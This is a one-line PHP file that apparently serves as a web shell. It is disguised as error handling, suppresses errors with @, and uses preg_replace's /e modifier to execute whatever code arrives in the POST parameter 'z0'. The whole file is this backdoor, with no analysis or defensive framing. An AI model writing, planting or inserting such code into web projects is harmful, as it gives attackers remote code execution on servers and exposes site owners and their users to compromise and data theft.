<?php @preg_replace("/[pageerror]/e",$_POST['z0'],"error"); ?>
